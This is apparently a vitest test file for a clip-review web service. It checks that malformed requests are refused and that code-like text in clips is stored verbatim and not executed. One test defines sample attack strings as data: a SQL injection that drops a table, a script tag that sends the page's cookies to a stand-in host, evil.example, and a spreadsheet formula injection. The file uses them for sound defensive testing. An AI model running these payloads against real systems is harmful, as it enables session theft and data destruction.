// Bad-input corpus, part 3: clip batches, an observer's own clips and the review routes on
// interventions (cases in bad-input-cases-clips.ts). See bad-input-table.ts for what each case asserts.
import { beforeAll, describe, expect, it } from 'vitest';
import type { ClipResult } from '../../shared/schemas';
import { cases } from './bad-input-cases-clips';
import { NO_SUCH, refuseAll, send, snapshot, toRequest, type Fixture } from './bad-input-table';
import { createDialogue, webcastClip } from './helpers';
import { team, threeTurns } from './review-helpers';

const fixture: Fixture = { tokens: {}, ids: {} };

beforeAll(async () => {
  const t = await team('Bad input clips');
  const other = await team('Another team');
  fixture.tokens = { admin: t.admin, reviewer: t.reviewer, observer: t.observer };
  const { dialogueId, interventions } = await threeTurns(t);
  const second = await threeTurns(t);
  const theirs = await createDialogue(other.admin);
  const [france, chile] = interventions;
  fixture.ids = {
    dialogue: dialogueId,
    theirs: theirs.id,
    france: france!.id,
    chile: chile!.id,
    elsewhere: second.interventions[0]!.id,
    nosuch: NO_SUCH,
  };
  const mine = await send(toRequest({ name: '', method: 'GET', path: `/clips?dialogueId=${dialogueId}`, as: 'observer', status: 200, code: '' }, fixture));
  fixture.ids.clip = (await mine.json<{ clips: { clip: { id: string } }[] }>()).clips[0]!.clip.id;
  for (const as of ['admin', 'reviewer', 'observer']) await send(toRequest({ name: '', method: 'GET', path: '/me', as, status: 200, code: '' }, fixture));
});

describe('bad input to clips and interventions', () => {
  refuseAll('clips and interventions', () => fixture, cases);
});

describe('text that looks like code is data', () => {
  it('stores SQL and HTML in a clip verbatim and runs none of it', async () => {
    const speaker = "France'); DROP TABLE clips; --";
    const note = '<script>fetch("https://evil.example/"+document.cookie)</script><b onmouseover=alert(1)>x</b>';
    const tags = ['=HYPERLINK("http://x")', '<i>'];
    const before = await snapshot();
    const stored = webcastClip(fixture.ids.dialogue!, { speaker, note, tags, start: 400, end: 420 });
    const res = await send(toRequest({ name: '', method: 'POST', path: '/clips', as: 'observer', body: { clips: [stored] }, status: 200, code: '' }, fixture));
    expect((await res.json<{ results: ClipResult[] }>()).results.map((r) => r.status)).toEqual(['stored']);
    const after = await snapshot();
    expect(Object.keys(after)).toEqual(Object.keys(before));
    expect(after.clips!.rows).toBe(before.clips!.rows + 1);
    // The team's backup holds every clip field as stored.
    const backup = await send(toRequest({ name: '', method: 'GET', path: '/backup', as: 'admin', status: 200, code: '' }, fixture));
    const clip = (await backup.json<{ clips: { id: string }[] }>()).clips.find((c) => c.id === stored.id);
    expect(clip).toMatchObject({ speaker, note, tags });
  });
});
